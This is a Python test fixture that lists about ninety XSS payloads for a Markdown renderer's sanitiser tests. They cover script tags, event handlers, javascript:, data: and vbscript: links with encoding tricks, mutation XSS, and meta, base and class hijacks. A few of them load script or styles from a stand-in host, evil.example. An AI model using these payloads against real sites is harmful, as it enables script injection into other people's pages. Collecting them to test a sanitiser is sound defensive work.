"""The project's own collection of XSS vectors, Markdown-specific ones
included. tests/articles/test_xss.py renders each through the preview and the public
page; tests/browser/test_xss_browser.py loads them all in Chromium.

Payloads call alert() (a dialog the browser test listens for) or set
``window.__xssRan`` (a flag it reads)."""

from __future__ import annotations

FLAG = "window.__xssRan=true"

VECTORS: dict[str, str] = {
    # Plain script
    "script tag": "<script>alert(1)</script>",
    "script tag, upper case with src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script split by markdown emphasis": "<scr*ipt*>alert(1)</script>",
    "script inside a raw HTML block": "<div>\n<script>alert(1)</script>\n</div>",
    "script in a template": "<template><script>alert(1)</script></template>",
    "script in a textarea": "<textarea><script>alert(1)</script></textarea>",
    "script in CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "script hidden in a comment": "<!--<script>alert(1)</script>-->",
    "comment breakout": "<!--><img src=x onerror=alert(1)>-->",
    # Event handlers
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror setting a flag": f'<img src=x onerror="{FLAG}">',
    "img onerror self-closing": '<img src="x:x" onerror="alert(1)" />',
    "svg onload": "<svg onload=alert(1)>",
    "svg animate onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "body onload": "<body onload=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "input autofocus onfocus": "<input autofocus onfocus=alert(1)>",
    "video source onerror": '<video><source onerror="alert(1)"></video>',
    "audio onerror": "<audio src=x onerror=alert(1)>",
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    "frameset onload": "<frameset onload=alert(1)>",
    "unknown tag onclick": "<x onclick=alert(1)>click",
    "allowed tag with onmouseover": ('<a href="https://example.org" onmouseover="alert(1)">x</a>'),
    "allowed p with onclick": f'<p onclick="{FLAG}">x</p>',
    "heading with onclick": '<h2 onclick="alert(1)">x</h2>',
    "table cell with onerror image": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "admonition title with image": '!!! warning "<img src=x onerror=alert(1)>"\n    text',
    "mutation XSS via math and style": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    ),
    "mutation XSS via noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "svg style breakout": "<svg><style>{font-family:'<iframe/onload=alert(1)>'}</style></svg>",
    # javascript: links in Markdown
    "markdown link": "[click](javascript:alert(1))",
    "markdown link, mixed case": "[click](JaVaScRiPt:alert(1))",
    "markdown link, leading space": "[click]( javascript:alert(1))",
    "markdown link in angle brackets": "[click](<javascript:alert(1)>)",
    "markdown link, decimal entity": "[click](&#106;avascript:alert(1))",
    "markdown link, hex entity": "[click](&#x6A;avascript:alert(1))",
    "markdown link, encoded colon": "[click](javascript&#58;alert(1))",
    "markdown link, named colon entity": "[click](javascript&colon;alert(1))",
    "markdown link, padded entity": "[click](javascript&#0000058alert(1))",
    "markdown link, percent-encoded": "[click](%6Aavascript:alert(1))",
    "markdown link, comment trick": "[click](javascript://%0Aalert(1))",
    "markdown link, newline before scheme": "[click](\njavascript:alert(1))",
    "markdown link, title breakout": '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
    "markdown link, href breakout": '[x](https://example.org" onclick="alert(1))',
    "reference-style link": "[click][ref]\n\n[ref]: javascript:alert(1)",
    "reference-style link, upper case with title": (
        '[click][ref]\n\n[ref]: JAVASCRIPT:alert(1) "title"'
    ),
    "reference-style link, entity-encoded": "[click][r]\n\n[r]: &#x6A;avascript:alert(1)",
    "reference-style image": "![x][img]\n\n[img]: javascript:alert(1)",
    "autolink javascript": "<javascript:alert(1)>",
    "autolink vbscript": "<vbscript:msgbox(1)>",
    "autolink data": "<data:text/html,<script>alert(1)</script>>",
    # Other dangerous schemes
    "markdown link vbscript": "[x](vbscript:msgbox(1))",
    "markdown link data html": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown image data svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "markdown image javascript": "![x](javascript:alert(1))",
    "markdown image alt breakout": '![x" onerror="alert(1)](x.png)',
    "markdown image title breakout": '![a](https://x.example/a.png "x" onerror="alert(1)")',
    "raw link javascript": '<a href="javascript:alert(1)">x</a>',
    "raw link with tab in scheme": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "raw link fully entity-encoded": (
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'
    ),
    "raw link with control character": '<a href=" &#14; javascript:alert(1)">x</a>',
    "raw link data URI": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "raw link vbscript upper case": '<a href="VBSCRIPT:msgbox(1)">x</a>',
    "raw link livescript": '<a href="livescript:alert(1)">x</a>',
    "raw image javascript": '<img src="javascript:alert(1)">',
    "raw image srcset": '<img srcset="javascript:alert(1) 1x" src="x.png">',
    "svg xlink href": ('<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>'),
    # Frames, plugins, forms
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe srcdoc entity-encoded": (
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
    ),
    "object data javascript": '<object data="javascript:alert(1)"></object>',
    "object scriptlet": '<object type="text/x-scriptlet" data="https://evil.example/x"></object>',
    "embed javascript": '<embed src="javascript:alert(1)">',
    "embed data svg": '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "form action javascript": '<form action="javascript:alert(1)"><button>x</button></form>',
    "button formaction": '<form><button formaction="javascript:alert(1)">x</button></form>',
    "detached button formaction": (
        "<form id=t></form><button form=t formaction=javascript:alert(1)>X</button>"
    ),
    "isindex": '<isindex action="javascript:alert(1)" type=image>',
    # Document-level hijacks
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta charset": '<meta charset="x-imap4-modified-utf7">',
    "base href javascript": '<base href="javascript:alert(1)//">',
    "base href other site": '<base href="https://evil.example/">',
    "link stylesheet": '<link rel=stylesheet href="javascript:alert(1)">',
    # Styles
    "style element": "<style>body{background:url(javascript:alert(1))}</style>",
    "style import": "<style>@import 'https://evil.example/x.css';</style>",
    "style attribute expression": '<div style="width: expression(alert(1))">x</div>',
    "style attribute url": '<p style="background:url(javascript:alert(1))">x</p>',
    "table background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "class hijack": '<div class="skip-link admonition">x</div>',
    # Site chrome classes: a body that borrows them restyles or hides the page
    # around it (tests/articles/test_xss.py allows only the callout classes).
    "class hijack on a paragraph": '<p class="visually-hidden">x</p>',
    "class hijack on a heading": '<h2 class="site-header">x</h2>',
    "class hijack on a link": '<a class="skip-link" href="#main">x</a>',
    "class hijack on a callout title": '<div class="admonition note"><p class="lede">x</p></div>',
    "class hijack via admonition type": '!!! skip-link "Skip"\n    text',
}

assert len(VECTORS) >= 60, len(VECTORS)
